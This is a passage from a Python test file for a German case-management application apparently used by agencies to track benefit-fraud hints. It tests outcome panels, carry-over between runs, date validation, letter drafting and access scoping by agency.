    services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    services.add_measure(fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=TODAY)
    request = rf.get("/")
    request.user = kim
    html = case_panel(request, case)
    assert "Familienkasse: <strong>Missbrauch bestätigt</strong>" in html
    assert "Kindergeld eingestellt" in html and "Schreiben entwerfen" in html
    assert f"/ergebnisse/hinweis/{kg_hint.pk}/?fall={case.pk}" in html
    request.user = fabian
    html = case_panel(request, case)
    assert "Missbrauch bestätigt" in html and "Schreiben entwerfen" not in html
    assert "SGB2" not in html and "Bürgergeld" not in html
    request.user = dana
    assert case_panel(request, case) == ""


def test_the_property_panel_shows_the_outcomes_of_its_hints_by_scope(kim, fabian, jonas, case, kg_hint, rf):
    from missimo.outcomes.panels import property_panel

    prop = case.property
    request = rf.get("/")
    request.user = fabian
    assert property_panel(request, prop) == ""
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.FEHLER, decided_on=TODAY)
    assert "Fehler/Irrtum" in property_panel(request, prop)
    request.user = jonas
    assert property_panel(request, prop) == ""
    request.user = kim
    assert "Familienkasse: <strong>Fehler/Irrtum</strong>" in property_panel(request, prop)
    assert _events(AuditAction.READ, "property_outcomes").count() == 2


def test_an_outcome_carries_over_to_the_same_hint_in_the_next_run_and_is_corrected_there(
    fabian, kg_hint, client, rf
):
    from missimo.outcomes.panels import case_panel
    from missimo.runs.models import Run, RunStatus

    first = services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    services.add_measure(fabian, kg_hint, kind=MeasureKind.KINDERGELD_EINGESTELLT, taken_on=TODAY)
    later = Run.objects.create(
        stichtag=dt.date(2027, 3, 15), status=RunStatus.FINISHED, finished_at=timezone.now()
    )
    again = _hint(later, kg_hint.rule, "familienkasse", kg_hint.primary_ref, amount_monthly=Decimal("255.00"))
    assert again.hint_id == kg_hint.hint_id
    assert services.own_outcome(fabian, again) == first
    _client(client, fabian)
    body = client.get("/ergebnisse/").content.decode()  # the latest run
    assert (
        f"/ergebnisse/hinweis/{again.pk}/" in body and "Missbrauch bestätigt" in body and "19.635,00" in body
    )
    assert "übernommen aus dem Abgleich" in client.get(f"/ergebnisse/hinweis/{again.pk}/").content.decode()
    from missimo.casework.models import Case

    later_case = Case.objects.create(aktenzeichen="MIS-2027-00001")
    later_case.hints.add(again)
    request = rf.get("/")
    request.user = fabian
    assert "Missbrauch bestätigt" in case_panel(request, later_case)
    corrected = services.record_outcome(
        fabian, again, result=OutcomeResult.FEHLER, decided_on=TODAY, version=1
    )
    assert corrected.pk == first.pk and Outcome.objects.count() == 1


def test_the_case_page_and_the_property_page_show_the_outcomes_section(kim, fabian, case, kg_hint, client):
    services.record_outcome(fabian, kg_hint, result=OutcomeResult.MISSBRAUCH, decided_on=TODAY)
    _client(client, kim)
    case_page = client.get(f"/aktionen/faelle/{case.pk}/").content.decode()
    assert "Ergebnisse und Maßnahmen" in case_page and f"/ergebnisse/schreiben/neu/{case.pk}/" in case_page
    property_page = client.get(f"/objekte/{case.property.pk}/").content.decode()
    assert "Ergebnisse, Maßnahmen und Schreiben" in property_page and "Missbrauch bestätigt" in property_page


def test_an_outcome_cannot_be_decided_in_the_future(fabian, kg_hint, client):
    tomorrow = timezone.localdate() + dt.timedelta(days=1)
    _client(client, fabian)
    answer = client.post(
        f"/ergebnisse/hinweis/{kg_hint.pk}/",
        {"result": "missbrauch", "decided_on": f"{tomorrow:%d.%m.%Y}", "version": 0},
    )
    assert answer.status_code == 400
    assert "nicht in der Zukunft" in answer.content.decode()
    assert 'aria-describedby="id_decided_on-hint id_decided_on-error"' in answer.content.decode()
    assert not Outcome.objects.exists()


def test_a_letter_to_the_wohnungsaufsicht_names_only_its_own_hints(kim, bea, case, kg_hint, bau_hint):
    template = LetterTemplate.objects.get(name="Mitteilung an die Wohnungsaufsicht")
    letter = letter_work.draft_letter(kim, case, bea.agency, template)
    assert (
        bau_hint.hint_id in letter.body
        and kg_hint.hint_id not in letter.body
        and "KG-4711" not in letter.body
    )
    assert letter.subject == "Mitteilung zum Objekt Hauptstraße 1, 45127 Musterstadt (MIS-2026-00001)"


def test_the_list_and_its_export_name_only_cases_the_agency_may_see(fabian, case, kg_hint, client):
    _client(client, fabian)
    assert kg_hint.hint_id in client.get("/ergebnisse/").content.decode()
    assert case.aktenzeichen not in client.get("/ergebnisse/").content.decode()  # issue #21
    assert case.aktenzeichen not in client.get("/ergebnisse/export.csv").content.decode("utf-8-sig")
    case.lead_agency = fabian.agency
    case.save(update_fields=["lead_agency"])
    assert case.aktenzeichen in client.get("/ergebnisse/").content.decode()
